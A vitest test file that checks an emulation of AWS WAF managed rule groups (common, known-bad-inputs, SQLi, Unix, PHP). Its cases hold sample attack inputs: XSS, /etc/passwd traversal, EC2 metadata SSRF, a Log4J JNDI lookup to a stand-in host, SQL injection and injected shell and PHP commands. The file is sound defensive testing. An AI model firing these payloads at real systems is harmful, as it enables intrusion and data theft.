import { describe, expect, it } from 'vitest';
import { loadWebAcl, makeRequest, WafEngine } from '../../src/waf/index.js';

const vis = { SampledRequestsEnabled: false, CloudWatchMetricsEnabled: false, MetricName: 'x' };
const managed = (Name: string, Priority: number, extra: Record<string, unknown> = {}) => ({
  Name: `AWS-${Name}`,
  Priority,
  OverrideAction: { None: {} },
  VisibilityConfig: vis,
  Statement: { ManagedRuleGroupStatement: { VendorName: 'AWS', Name, ...extra } },
});

function engine(rules: unknown[]): WafEngine {
  const r = loadWebAcl([
    {
      Name: 'm',
      ARN: 'arn:aws:wafv2:us-east-1:123456789012:regional/webacl/m/1',
      DefaultAction: { Allow: {} },
      VisibilityConfig: vis,
      Rules: rules,
    },
  ]);
  expect(r.issues).toEqual([]);
  return new WafEngine(r.acl!);
}

const ua = { 'user-agent': 'Mozilla/5.0' };

describe('managed rule group emulations (waf.md §11)', () => {
  const e = engine([
    managed('AWSManagedRulesCommonRuleSet', 0),
    managed('AWSManagedRulesKnownBadInputsRuleSet', 1),
    managed('AWSManagedRulesSQLiRuleSet', 2),
    managed('AWSManagedRulesLinuxRuleSet', 3),
    managed('AWSManagedRulesUnixRuleSet', 4),
    managed('AWSManagedRulesPHPRuleSet', 5),
  ]);
  it('costs the vendor capacities', () => {
    expect(e.acl.rules.map((r) => r.wcu)).toEqual([700, 200, 200, 200, 100, 100]);
    expect(e.acl.capacity).toBe(1500);
  });
  it.each([
    [
      '/',
      {},
      'AWS-AWSManagedRulesCommonRuleSet',
      'NoUserAgent_HEADER',
      'awswaf:managed:aws:core-rule-set:NoUserAgent_Header',
    ],
    [
      '/?q=%3Cscript%3Ealert(1)%3C/script%3E',
      ua,
      'AWS-AWSManagedRulesCommonRuleSet',
      'CrossSiteScripting_QUERYARGUMENTS',
      'awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments',
    ],
    [
      '/?f=../../etc/passwd',
      ua,
      'AWS-AWSManagedRulesCommonRuleSet',
      'GenericLFI_QUERYARGUMENTS',
      'awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments',
    ],
    [
      '/?u=http://169.254.169.254/latest/meta-data/',
      ua,
      'AWS-AWSManagedRulesCommonRuleSet',
      'EC2MetaDataSSRF_QUERYARGUMENTS',
      'awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments',
    ],
    [
      `/?x=${'$'}{jndi:ldap://e.com/a}`,
      ua,
      'AWS-AWSManagedRulesKnownBadInputsRuleSet',
      'Log4JRCE_QUERYSTRING',
      'awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString',
    ],
    [
      '/?id=1%20UNION%20SELECT%20pw%20FROM%20users',
      ua,
      'AWS-AWSManagedRulesSQLiRuleSet',
      'SQLi_QUERYARGUMENTS',
      'awswaf:managed:aws:sql-database:SQLi_QueryArguments',
    ],
    [
      '/?c=x;cat%20/tmp/a',
      ua,
      'AWS-AWSManagedRulesUnixRuleSet',
      'UNIXShellCommandsVariables_QUERYARGUMENTS',
      'awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryArguments',
    ],
    [
      '/?c=system(%27id%27)',
      ua,
      'AWS-AWSManagedRulesPHPRuleSet',
      'PHPHighRiskMethodsVariables_QUERYSTRING',
      'awswaf:managed:aws:php-app:PHPHighRiskMethodsVariables_QueryString',
    ],
  ])('%s → %s / %s', (url, headers, acl, groupRule, label) => {
    const d = e.evaluate(makeRequest({ url, headers }));
    expect([d.action, d.terminatingRuleId, d.terminatingRuleType, d.terminatingGroupRule]).toEqual([
      'BLOCK',
      acl,
      'MANAGED_RULE_GROUP',
      groupRule,
    ]);
    expect(d.labels).toContain(label);
  });
  it('allows ordinary requests', () => {
    for (const url of ['/', '/products/12?color=red&size=m', '/search?q=rock+and+roll', "/?name=O'Reilly"]) {
      expect(e.evaluate(makeRequest({ url, headers: { ...ua, host: 'shop.example' } })).action).toBe('ALLOW');
    }
  });
  it('RuleActionOverrides and ExcludedRules apply; unknown names are ignored for managed groups', () => {
    const e2 = engine([
      managed('AWSManagedRulesCommonRuleSet', 0, {
        RuleActionOverrides: [
          { Name: 'NoUserAgent_HEADER', ActionToUse: { Count: {} } },
          { Name: 'NoSuchRule', ActionToUse: { Count: {} } },
        ],
      }),
      {
        Name: 'after',
        Priority: 1,
        Action: { Block: {} },
        VisibilityConfig: vis,
        Statement: { LabelMatchStatement: { Scope: 'LABEL', Key: 'core-rule-set:NoUserAgent_Header' } },
      },
    ]);
    const d = e2.evaluate(makeRequest({ url: '/' }));
    expect(d.terminatingRuleId).toBe('after');
    expect(d.ruleGroupList[0]!.nonTerminatingMatchingRules[0]).toMatchObject({
      ruleId: 'NoUserAgent_HEADER',
      action: 'COUNT',
    });
  });
  it('a managed group Vigil does not emulate is a located error', () => {
    const r = loadWebAcl([
      { Name: 'm', DefaultAction: { Allow: {} }, Rules: [managed('AWSManagedRulesBotControlRuleSet', 0)] },
    ]);
    expect(r.issues[0]).toMatchObject({
      path: 'Rules[0].Statement.ManagedRuleGroupStatement',
      message: 'managed rule group AWS/AWSManagedRulesBotControlRuleSet has no Vigil emulation loaded',
    });
  });
});
